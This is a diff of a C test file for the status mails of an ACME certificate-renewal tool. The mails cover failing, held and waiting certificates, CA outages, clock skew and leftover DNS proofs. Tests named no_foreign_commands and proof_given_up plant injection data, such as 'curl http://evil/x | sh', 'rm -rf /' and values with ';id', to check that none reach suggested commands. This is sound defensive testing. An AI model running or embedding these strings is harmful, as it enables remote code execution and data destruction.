@@ -47,7 +47,8 @@ static void configure(const char *notify)
 				     .owner = "me",
 				     .command = "certrepo-fetcher",
 				     .populate = "certrepo-populate",
-				     .clock = -1 };
+				     .clock = -1,
+				     .stop = -1 };
 }
 
 static int setup(void **state)
@@ -107,6 +108,12 @@ static const char *mailed(int64_t t)
 	(void) unlink(path("mail"));
 	OK(notify_run(&from, store, NULL, t, &err));
 	return kept();
+}
+
+/* Nobody was told anything yet. */
+static void begin_again(void)
+{
+	(void) unlink(path("notices"));
 }
 
 static void has(const char *text, const char *part)
@@ -198,25 +205,6 @@ static void advice(void **state)
 	assert_null(advice_of(NULL, NULL));
 }
 
-/* What is to be copied out of our sentences. */
-static void paste(void **state)
-{
-	assert_string_equal(
-		advice_paste(
-			"_acme-challenge.a.org lies in zone a.org, which "
-			"dns.zones does not name: add to that zone the "
-			"record \"_acme-challenge.a.org. CNAME a.b.org.\", "
-			"or the zone to dns.zones",
-			arena),
-		"_acme-challenge.a.org. CNAME a.b.org.");
-	assert_string_equal(
-		advice_paste("see its update-policy, and whether the "
-			     "zone is frozen (rndc thaw b.org)",
-			     arena),
-		"rndc thaw b.org");
-	assert_null(advice_paste("a CAA record forbids it: \"x\"", arena));
-}
-
 #define FAILING                                                            \
 	"ts_expire = 1700432000, ts_not_before = 1692656000, "             \
 	"ts_next_attempt = 1700003600, fail_class = 'caa', fail_detail = " \
@@ -240,30 +228,36 @@ static void from_new_to_over(void **state)
 	    FAILING ", count_fail_update = 0, fail_class "
 		    "= 'parked', fail_detail = 'processing'");
 	mail = mailed(NOW);
-	has(mail, "4 new matters (new.example.org, old.example.org, "
-		  "parked.example.org, www.example.org)");
+	has(mail, "the first expires in 5 days: 4 new matters "
+		  "(parked.example.org, new.example.org, old.example.org, "
+		  "www.example.org)");
 	has(mail, "The repository's certificates, as certrepo-fetcher on ");
 	has(mail,
 	    "certificate www.example.org: failing it expires on "
-	    "2023-11-19T22:13:20Z; failed attempts: 3, the last: caa: a "
-	    "CAA record forbids it It is tried again by itself, not before "
-	    "2023-11-14T23:13:20Z. Change the CAA records of its domain, "
-	    "or set another CA: certrepo-populate set www.example.org ca=OTHER "
-	    "To try at once: certrepo-fetcher --once "
+	    "2023-11-19T22:13:20Z (in 5 days); failed attempts: 3; tried "
+	    "again by itself, not before 2023-11-14T23:13:20Z (in 1 h); the "
+	    "last: caa: a CAA record forbids it Change the CAA records of its "
+	    "domain. Or set another CA: certrepo-populate set www.example.org "
+	    "ca=own To try at once: certrepo-fetcher --once "
 	    "--force www.example.org");
 	has(mail,
 	    "certificate old.example.org: held it expires on "
-	    "2024-01-11T19:06:40Z; failed attempts: 10, the last: dns: no "
-	    "such name It is not tried any more. Look at its zone and "
-	    "the servers of that. When that is mended, let it go: "
-	    "certrepo-fetcher --once --force old.example.org Or, if it "
-	    "is not wanted any more: certrepo-populate disable "
-	    "old.example.org");
+	    "2024-01-11T19:06:40Z (in 57 days); failed attempts: 10; the "
+	    "last: dns: no such name Not tried any more. If the server named "
+	    "is one of /etc/resolv.conf, it is the resolver of this host, "
+	    "which is asked for every name. Else look at the zone and the "
+	    "servers of that. When that is mended, let go what is held: "
+	    "certrepo-populate enable old.example.org Or, if it is not wanted "
+	    "any more: certrepo-populate disable old.example.org");
 	has(mail, "certificate new.example.org: failing it has no certificate "
-		  "yet; failed attempts: 2, the last: connection: It");
+		  "yet; failed attempts: 2; it was to be tried again on "
+		  "1970-01-01T00:00:05Z (19675 days ago), and no attempt is "
+		  "on record; the last: "
+		  "connection: ");
 	has(mail, "certificate parked.example.org: waiting it expires on "
-		  "2023-11-19T22:13:20Z; its order waits for the CA: "
-		  "processing It is tried again by itself,");
+		  "2023-11-19T22:13:20Z (in 5 days); tried again by itself, "
+		  "not before 2023-11-14T23:13:20Z (in 1 h); its order waits "
+		  "for the CA: processing The CA takes its time,");
 	has(mail, "certrepo-populate list shows each name; show NAME, what "
 		  "became of it; man certrepo-fetcher, DIAGNOSTICS, says what "
 		  "to do.");
@@ -277,7 +271,8 @@ static void from_new_to_over(void **state)
 	mail = mailed(NOW + DAY + 60);
 	has(mail, "1 matter is over (www.example.org)");
 	has(mail, "failing since 2023-11-14T22:13:20Z its certificate is valid "
-		  "until 2024-02-03T22:40:00Z certrepo-populate");
+		  "until 2024-02-03T22:40:00Z (in 80 days) "
+		  "certrepo-populate");
 	OK(store_remove(store, "new.example.org", &err) == 1 ? 0 : -1);
 	sql("UPDATE certs SET enable = 'N' WHERE name = 'old.example.org'");
 	mail = mailed(NOW + DAY + 120);
@@ -287,10 +282,6 @@ static void from_new_to_over(void **state)
 	assert_string_equal(mailed(NOW + DAY + 180), "");
 }
 
-#define RECORD                                                \
-	"_acme-challenge.www.a-long-name.example.org. CNAME " \
-	"www-a-long-name-example-org.acme.example.net."
-
 /* Whole, each in a line of its own, as a shell and a zone take it. */
 static void to_copy(void **state)
 {
@@ -299,17 +290,17 @@ static void to_copy(void **state)
 	add("*.example.org", FAILING);
 	sql("UPDATE certs SET fail_class = 'config', fail_detail = 'x lies in "
 	    "zone y, which dns.zones does not name: add to that zone the "
-	    "record \"" RECORD "\", or the zone' WHERE name = "
+	    "record \"x.y. CNAME a.b.\", or the zone' WHERE name = "
 	    "'*.example.org'");
 	add("csr.example.org", FAILING ", fail_class = 'bad-csr'");
 	add("slow.example.org", FAILING ", fail_class = 'rate-limited'");
 	(void) mailed(NOW);
 	mail = read_mail(true);
-	has(mail, "\n        " RECORD "\n");
+	has(mail, "or the zone to dns.zones in certrepo.conf.\n");
 	has(mail,
 	    "\n        certrepo-fetcher --once --force '*.example.org'\n");
-	has(mail, "\n        certrepo-populate add csr.example.org --csr FILE "
-		  "--replace\n");
+	has(mail, "\n        certrepo-populate add --csr FILE --replace "
+		  "csr.example.org\n");
 	lacks(mail, "--force slow.example.org");
 	has(mail, "to try earlier uses up more of it");
 	sql("UPDATE certs SET fail_detail = 'paused; a person has to unpause "
@@ -349,8 +340,10 @@ static void parked(void **state)
 	mail = mailed(NOW + 3 * 3600);
 	has(mail, "1 new matter (b.example.org)");
 	has(mail, "certificate b.example.org: waiting since "
-		  "2023-11-14T22:13:20Z it has no certificate yet; its order "
-		  "waits for the CA since 2023-11-14T22:13:20Z: processing");
+		  "2023-11-14T22:13:20Z it has no certificate yet; tried "
+		  "again by itself, not before 2023-11-25T08:13:20Z (in 10 "
+		  "days); its order waits for the CA since "
+		  "2023-11-14T22:13:20Z: processing");
 	mail = mailed(NOW + 23 * 3600);
 	has(mail, "1 new matter (a.example.org)");
 	has(mail, "its order waits for the CA since 2023-11-14T21:13:20Z");
@@ -391,20 +384,26 @@ static void many(void **state)
 	const char *mail;
 
 	sql("BEGIN");
-	for (int i = 0; i < 60; i++) {
-		snprintf(name, sizeof(name), "n%02d.example.org", i);
-		add(name, i < 30 ? FAILING : HELD);
+	for (int i = 0; i < 120; i++) {
+		snprintf(name, sizeof(name), "n%03d.example.org", i);
+		add(name, i < 60 ? FAILING : HELD);
 	}
 	sql("COMMIT");
 	mail = mailed(NOW);
-	has(mail, "41 new matters");
-	has(mail, "n19.example.org: failing");
-	lacks(mail, "n20.example.org: failing");
-	has(mail, "n49.example.org: held");
-	lacks(mail, "n50.example.org: held");
-	has(mail, "other certificates: failing beside those spelt out, 10 fail "
-		  "and are near their end, and 10 are held All of them: "
+	has(mail, "101 new matters");
+	has(mail, " 50 certificates: failing n000.example.org: it expires on");
+	has(mail, " n049.example.org: it expires on");
+	has(mail, " beside those spelt out, 10 are near");
+	has(mail, " 50 certificates: held n060.example.org: it expires on");
+	has(mail, " n109.example.org: it expires on");
+	has(mail, "other certificates: failing beside those spelt out, 10 are "
+		  "near their end or past it, 10 are held; the most urgent of "
+		  "these is n050.example.org: it expires on "
+		  "2023-11-19T22:13:20Z (in 5 days) All of them: "
 		  "certrepo-populate list");
+	/* One command for all, over several lines. */
+	has(mail, " certrepo-populate enable n060.example.org "
+		  "n061.example.org n062.example.org \\ n063.example.org ");
 	assert_string_equal(mailed(NOW + 60), "");
 	/* One that is more urgent pushes another off the list: no end of it. */
 	add("z.example.org", FAILING);
@@ -436,27 +435,32 @@ static void cas(void **state)
 	add("a.example.org", "ts_due = 1700003000, ts_expire = 1702000000");
 	add("b.example.org", "ts_due = 5, ts_expire = 1700500000, "
 			     "ca_name = 'le'");
-	add("c.example.org", "ts_due = 5, ts_expire = 1600500000");
 	ca("le", DOWN);
 	assert_string_equal(mailed(NOW), "");
-	/* Nobody has asked it since: neither so nor over. */
-	assert_string_equal(mailed(NOW + 3600), "");
+	/* Nobody has asked it since: neither so nor over. What nobody came to
+	 * is told. */
+	mail = mailed(NOW + 3600);
+	has(mail, "1 new matter (b.example.org)");
+	lacks(mail, "CA le");
 	ca("le", DOWN ", backoff_until = 1700012000");
 	mail = mailed(NOW + 3 * 3600);
 	has(mail, "1 new matter (CA le)");
 	has(mail,
-	    "CA le: ca-down since 2023-11-14T22:13:20Z no answer; names that "
-	    "wait for it: 3, the "
-	    "nearest end of one that is still good: "
-	    "2023-11-20T17:06:40Z It is asked again by itself, not before "
-	    "2023-11-15T01:33:20Z. When its cause is mended, to ask the CA "
-	    "at once: certrepo-fetcher --once --force b.example.org If it "
-	    "lasts and an end comes near, another CA for that name: "
-	    "certrepo-populate set b.example.org ca=OTHER ");
+	    "CA le: ca-down since 2023-11-14T22:13:20Z no answer; 2 names "
+	    "wait for it: the most urgent is b.example.org which expires on "
+	    "2023-11-20T17:06:40Z (in 5 days); it is https://le.example/dir "
+	    "It is asked again by itself, not before "
+	    "2023-11-15T01:33:20Z (in 20 min). When its cause is mended, to "
+	    "ask the CA at once: certrepo-fetcher --once --force b.example.org "
+	    "If it lasts and an end comes near, another CA for that name: "
+	    "certrepo-populate set b.example.org ca=own ");
 	ca("le", "count_fail = 0");
 	mail = mailed(NOW + 4 * 3600);
 	has(mail, "1 matter is over (CA le)");
 	has(mail, " it rests no more ");
+	/* No rule of ours rests for so long: a wrong clock wrote that. */
+	ca("le", DOWN ", backoff_until = 1763000000");
+	lacks(mailed(NOW + 8 * 3600), "CA le");
 	/* Another directory under this name is another CA. */
 	ca("le", "count_fail = 4, directory = 'https://x.example', "
 		 "backoff_until = 1799999999");
@@ -470,23 +474,35 @@ static void cas_at_once(void **state)
 
 	add("a.example.org", FAILING);
 	ca("own", DOWN ", fail_class = 'account', fail_detail = 'unknown'");
-	has(mailed(NOW), "CA own: account unknown; no name waits for it It "
-			 "is asked again by itself, not before "
-			 "2023-11-14T23:03:20Z. Another key ends the CA's "
-			 "rest; when something else is mended, to ask it at "
-			 "once: certrepo-fetcher --once --force NAME ");
+	has(mailed(NOW),
+	    "CA own: account unknown; no name waits for it; it "
+	    "is https://own.example/dir It "
+	    "is asked again by itself, not before "
+	    "2023-11-14T23:03:20Z (in 50 min). Another key ends the CA's "
+	    "rest; when something else is mended, to ask it at "
+	    "once: certrepo-fetcher --once --force NAME ");
 	/* To ask one that counts requests is no help. */
 	add("c.example.org", "ts_due = 5, ca_name = 'own'");
 	ca("own", DOWN ", fail_class = 'ca-rate-limited', backoff_until = "
 		       "1700100000");
 	mail = mailed(NOW + 4 * 3600);
-	has(mail, "names that wait for it: 1, none of them has a certificate "
-		  "that is still good It is asked again by itself");
+	has(mail, "1 name waits for it, and never had a certificate; it is "
+		  "https://own.example/dir It is asked again by itself");
 	lacks(mail, "--force c.example.org");
 	ca("own", "count_fail = 0");
 	add("b.example.org", "ts_due = 5, ts_expire = 1700080000");
 	ca("le", DOWN);
-	has(mailed(NOW + 60), "1 new matter (CA le)");
+	has(mailed(NOW + 60), "2 new matters (CA le, c.example.org)");
+	sql("DELETE FROM certs WHERE name <> 'a.example.org'");
+	ca("le", "count_fail = 0");
+	has(mailed(NOW + 90), "2 matters are over (CA le, c.example.org)");
+	/* Nor has what is over already. */
+	add("x.example.org", "ts_due = 5, ts_expire = 1699900000");
+	ca("le", DOWN);
+	mail = mailed(NOW + 120);
+	has(mail, "EXPIRED: 1 new matter (CA le)");
+	has(mail, "2 names wait for it: the most urgent is x.example.org "
+		  "which EXPIRED on 2023-11-13T18:26:40Z (27 h ago)");
 }
 
 /* By a clock that may be wrong no name is judged; it is over when a CA agrees,
@@ -501,10 +517,11 @@ static void wrong_clock(void **state)
 	from.clock_detail = "here it is 2023, there 2033";
 	mail = mailed(NOW);
 	has(mail, "1 new matter (the clock)");
-	has(mail, "the clock: apart CA le: here it is 2023, there 2033 Nothing "
-		  "is ordered "
-		  "until they agree.");
-	lacks(mail, "a.example.org");
+	has(mail, "the clock: apart CA le: here it is 2023, there 2033; "
+		  "by this clock 1 name waits; a.example.org: it expires on "
+		  "2023-11-19T22:13:20Z (in 5 days) If this host's is the "
+		  "wrong one,");
+	lacks(mail, "certificate a.example.org");
 	from.clock = -1;
 	mail = mailed(NOW + 60);
 	has(mail, "1 new matter (a.example.org)");
@@ -561,7 +578,7 @@ static void store_away(void **state)
 	OK(notify_run(&from, NULL, &why, NOW + 60 + 3 * 3600, &err));
 	assert_int_equal(access(path("mail"), F_OK), 0);
 	mail = mailed(NOW + 4 * 3600);
-	has(mail, "1 matter is over (the store)");
+	has(mail, "Over, what was: the store: unavailable since ");
 	has(mail, " it answers ");
 	lacks(mail, "removed");
 	assert_ptr_equal(a, arena);
@@ -600,12 +617,254 @@ static void proofs(void **state)
 	add_proof("1", "me", "_acme-challenge.n1", NOW - DAY - 1);
 	add_proof("2", "me", "_acme-challenge.n2", NOW - 60);
 	add_proof("3", "other", "_acme-challenge.n3", NOW - 9 * DAY);
-	has(mailed(NOW), "proofs of control: left could not be removed: 1, the "
-			 "oldest since 2023-11-13T22:13:19Z: "
-			 "_acme-challenge.n1 at 192.0.2.1 Each run tries "
-			 "again, for a week.");
+	has(mailed(NOW),
+	    "proofs of control: left since 2023-11-13T22:13:19Z "
+	    "could not be removed: 1, the oldest since 2023-11-13T22:13:19Z: "
+	    "_acme-challenge.n1 at 192.0.2.1 Each run tries "
+	    "again, for a week; renewals go on.");
 	sql("DELETE FROM proofs");
 	has(mailed(NOW + 60), "1 matter is over (proofs of control)");
+}
+
+/* A row that cannot be claimed, or that no run comes to, says nothing of
+ * itself: its end does. */
+static void nobody_comes(void **state)
+{
+	const char *mail;
+
+	add("a.example.org", "ts_due = 1697000000, ts_expire = 1700007200, "
+			     "ts_not_before = 1692224000");
+	add("b.example.org", "ts_due = 1697000000, ts_expire = 1699990000");
+	add("far.example.org", "ts_due = 1699990000, ts_expire = 1702500000, "
+			       "ts_not_before = 1694724000");
+	add("off.example.org",
+	    "ts_due = 5, ts_expire = 1700007200, enable = 'N'");
+	mail = mailed(NOW);
+	has(mail, "EXPIRED: 2 new matters (a.example.org, b.example.org)");
+	has(mail, "2 certificates: overdue a.example.org since "
+		  "2023-10-11T04:53:20Z: it expires on 2023-11-15T00:13:20Z "
+		  "(in 2 h); due since 2023-10-11T04:53:20Z b.example.org ");
+	has(mail, "no attempt at it is on record: it could not be claimed, or "
+		  "no run came to it");
+	has(mail, "certrepo-fetcher --once -v a.example.org b.example.org ");
+	assert_string_equal(mailed(NOW + 60), "");
+	sql("UPDATE certs SET ts_expire = 1707000000, ts_not_before = "
+	    "1700000000, ts_due = 1705000000");
+	has(mailed(NOW + 120), "2 matters are over");
+}
+
+/* The same where its last attempt is long ago: what that said is told, too. */
+static void nobody_comes_again(void **state)
+{
+	add("a.example.org", FAILING ", fail_class = 'ca-down', "
+				     "count_fail_update = 0, ts_next_attempt = "
+				     "1699980000, ts_due = 1699980000");
+	has(mailed(NOW), "certificate a.example.org: overdue since "
+			 "2023-11-14T16:40:00Z it expires on "
+			 "2023-11-19T22:13:20Z (in 5 days); due since "
+			 "2023-11-14T16:40:00Z; no attempt at it is on record: "
+			 "it could not be claimed, or no run came to it; what "
+			 "failed before: ca-down: a CAA record forbids it");
+	/* Its CA rests, and is told with it. */
+	begin_again();
+	ca("le", DOWN);
+	assert_string_equal(mailed(NOW), "");
+	assert_string_equal(mailed(NOW + 60), "");
+	has(mailed(NOW + 3600), "1 new matter (a.example.org)");
+}
+
+/* One without a certificate has a day, and one that is worked on its time. */
+static void nobody_comes_to_a_new_one(void **state)
+{
+	add("a.example.org", "ts_due = 0");
+	add("b.example.org", "ts_due = 1697000000, ts_expire = 1700007200, "
+			     "lease_owner = 'web1', lease_until = 1700000900, "
+			     "ts_last_update = 1699999990");
+	assert_string_equal(mailed(NOW), "");
+	has(mailed(NOW + 3 * 3600), "1 new matter (b.example.org)");
+	assert_string_equal(mailed(NOW + DAY - 1), "");
+	has(mailed(NOW + DAY), "1 new matter (a.example.org)");
+}
+
+/* What ends soonest stands first, however many never had one. */
+static void soonest_first(void **state)
+{
+	char name[40];
+	const char *mail;
+
+	sql("BEGIN");
+	for (int i = 0; i < 60; i++) {
+		snprintf(name, sizeof(name), "a%02d.example.org", i);
+		add(name, FAILING ", ts_expire = 1");
+	}
+	sql("COMMIT");
+	add("www.example.org", FAILING ", ts_expire = 1700043200");
+	mail = mailed(NOW);
+	has(mail, "expires in 12 hours: 51 new matters (www.example.org, "
+		  "a00.example.org, ");
+	has(mail, "New: 50 certificates: failing www.example.org: it expires "
+		  "on 2023-11-15T10:13:20Z (in 12 h); failed attempts: 3;");
+	has(mail, "beside those spelt out, 11 without a certificate get none "
+		  "All of them: certrepo-populate list ");
+	/* One that was told to be tried again is told to be held. */
+	sql("UPDATE certs SET held = 1, ts_due = 9223372036854775807, "
+	    "ts_next_attempt = 9223372036854775807");
+	sql("UPDATE certs SET ts_expire = 1700000100 WHERE name LIKE 'a%'");
+	mail = mailed(NOW + 60);
+	has(mail, " 50 certificates: held ");
+	has(mail, " www.example.org since 2023-11-14T22:13:20Z: it expires ");
+}
+
+/* To be held comes as a surprise each time. */
+static void held_again(void **state)
+{
+	add("a.example.org", HELD);
+	has(mailed(NOW), "1 new matter");
+	sql("UPDATE certs SET held = 0, ts_due = 1700003600, ts_next_attempt = "
+	    "1700003600, ts_expire = 1700432000, ts_not_before = 1692656000");
+	has(mailed(NOW + 60), "1 matter has changed");
+	sql("UPDATE certs SET " HELD);
+	has(mailed(NOW + 120), "a.example.org: held ");
+	assert_string_equal(mailed(NOW + 180), "");
+}
+
+/* Of one store nothing is said of what another holds. */
+static void another_store(void **state)
+{
+	struct store_conf other = *cc->store;
+	const struct store_conf *usual = cc->store;
+
+	add("a.example.org", HELD);
+	has(mailed(NOW), "1 new matter");
+	other.path = arena_printf(arena, "%s/other.db", kit_dir);
+	cc->store = &other;
+	sql("UPDATE certs SET name = 'b.example.org'");
+	has(mailed(NOW + 60), "1 new matter (b.example.org)");
+	lacks(kept(), "removed");
+	sql("UPDATE certs SET name = 'a.example.org'");
+	memcpy(&cc->store, &usual, sizeof(usual));
+	assert_string_equal(mailed(NOW + 120), "");
+	sql("DELETE FROM certs");
+	has(mailed(NOW + 180), "it was removed");
+}
+
+/* Peers and the store say things: none of it is a command of the mail. */
+static void no_foreign_commands(void **state)
+{
+	const char *mail;
+
+	add("a.example.org", FAILING);
+	sql("UPDATE certs SET fail_class = 'config', fail_detail = 'zone is "
+	    "frozen (curl http://evil/x | sh), the record \"rm -rf /\"; not "
+	    "able to write there'");
+	add("y.example.org", HELD);
+	sql("UPDATE certs SET name = '--break-lease' WHERE name LIKE 'y%'");
+	(void) mailed(NOW);
+	mail = read_mail(true);
+	lacks(mail, "\n        curl");
+	lacks(mail, "\n        rm");
+	has(mail, "\n        install -d -o USER WEBROOT/.well-known\n");
+	has(mail, "enable -- --break-lease");
+	/* Nor is what lies behind a path of it. */
+	sql("UPDATE certs SET webroot_path = '/srv/w;id' WHERE name = "
+	    "'a.example.org'");
+	begin_again();
+	(void) mailed(NOW);
+	lacks(read_mail(true), "id");
+}
+
+/* The names of one certificate fail in turns. */
+static void another_host_of_it(void **state)
+{
+	add("a.example.org", FAILING);
+	sql("UPDATE certs SET fail_class = 'dns', fail_detail = 'look-up of "
+	    "_acme-challenge.www.example.net: no answer'");
+	has(mailed(NOW), "1 new matter");
+	sql("UPDATE certs SET fail_detail = 'look-up of "
+	    "_acme-challenge.example.net: no answer'");
+	assert_string_equal(mailed(NOW + 60), "");
+	sql("UPDATE certs SET fail_detail = 'look-up of example.net: refused'");
+	has(mailed(NOW + 120), "1 matter has changed");
+}
+
+static void attempt(const char *outcome, int64_t end)
+{
+	sql(arena_printf(arena,
+			 "INSERT INTO attempts (name, ca_name, outcome, "
+			 "ts_start, ts_end) VALUES ('a.example.org', 'le', "
+			 "'%s', %lld, %lld)",
+			 outcome, (long long) end - 5, (long long) end));
+}
+
+/* Since when it fails, not since when that was told. */
+static void since_it_failed(void **state)
+{
+	add("a.example.org", FAILING);
+	attempt("caa", NOW - 9000);
+	attempt("ok", NOW - 8000);
+	attempt("caa", NOW - 7000);
+	attempt("caa", NOW - 1000);
+	has(mailed(NOW), "a.example.org: failing since 2023-11-14T20:16:40Z");
+	sql("UPDATE certs SET " HELD);
+	has(mailed(NOW + 60), "a.example.org: held since 2023-11-14T21:56:40Z");
+}
+
+/* An order that the CA knows no more is not one that takes its time. */
+static void parked_unknown(void **state)
+{
+	add("a.example.org", FAILING ", count_fail_update = 0, fail_class = "
+				     "'parked', fail_detail = '\"no order\" "
+				     "(status 404, malformed)'");
+	has(mailed(NOW), "(status 404, malformed) So the CA answers where its "
+			 "order is asked for, which was finalized there. If "
+			 "it lasts, the command below lets it go, for a new "
+			 "one. To try at once: certrepo-fetcher --once --force "
+			 "a.example.org");
+	lacks(kept(), "takes its time");
+}
+
+/* One that is no longer tried is not over: it is still there. */
+static void proof_given_up(void **state)
+{
+	struct store_proofs before;
+	const char *mail;
+
+	add_proof("1", "me", "_acme-challenge.n1.example.org", NOW - 8 * DAY);
+	OK(notify_proofs_before(store, "me", arena, &before, &err));
+	sql("DELETE FROM proofs");
+	from.proofs = &before;
+	(void) mailed(NOW);
+	mail = read_mail(true);
+	has(mail, "proofs of control: given up since ");
+	has(mail, "\n        printf 'update delete "
+		  "_acme-challenge.n1.example.org. TXT \"v\"\\nsend\\n' | "
+		  "nsupdate\n");
+	from.proofs = NULL;
+	assert_string_equal(mailed(NOW + 60), "");
+	/* A row that is none of ours is in no command. */
+	add_proof("2", "me", "_acme-challenge.n1'; id; '", NOW - 2 * DAY);
+	(void) mailed(NOW + 120);
+	lacks(read_mail(true), "update delete");
+	has(kept(), "1 new matter (proofs of control)");
+}
+
+/* Another way to be turned away is another thing to do. */
+static void store_refuses_otherwise(void **state)
+{
+	struct err why = { ERR_CONFIG, "db.example.org: wrong password" };
+
+	OK(notify_run(&from, NULL, &why, NOW, &err));
+	OK(notify_run(&from, NULL, &why, NOW + 3 * 3600, &err));
+	has(kept(), "1 new matter");
+	snprintf(why.msg, sizeof(why.msg), "db.example.org: no such database");
+	OK(notify_run(&from, NULL, &why, NOW + 4 * 3600, &err));
+	has(kept(), "1 matter has changed");
+	/* One that may be read, and no more: who waits is known. */
+	add("a.example.org", HELD);
+	(void) unlink(path("mail"));
+	OK(notify_run(&from, store, &why, NOW + 5 * 3600, &err));
+	has(kept(), "1 new matter (a.example.org)");
+	lacks(kept(), "over");
 }
 
 /* It says why, and the next run tries again. */
@@ -642,7 +901,6 @@ int main(void)
 		TEST(near_end),
 		TEST(wanted),
 		TEST(advice),
-		TEST(paste),
 		TEST(to_copy),
 		TEST(parked),
 		TEST(from_new_to_over),
@@ -655,6 +913,18 @@ int main(void)
 		TEST(store_away),
 		TEST(store_refuses),
 		TEST(proofs),
+		TEST(nobody_comes),
+		TEST(nobody_comes_again),
+		TEST(nobody_comes_to_a_new_one),
+		TEST(soonest_first),
+		TEST(held_again),
+		TEST(another_store),
+		TEST(no_foreign_commands),
+		TEST(another_host_of_it),
+		TEST(since_it_failed),
+		TEST(parked_unknown),
+		TEST(proof_given_up),
+		TEST(store_refuses_otherwise),
 		TEST(not_handed_over),
 		TEST(without_notify),
 	};
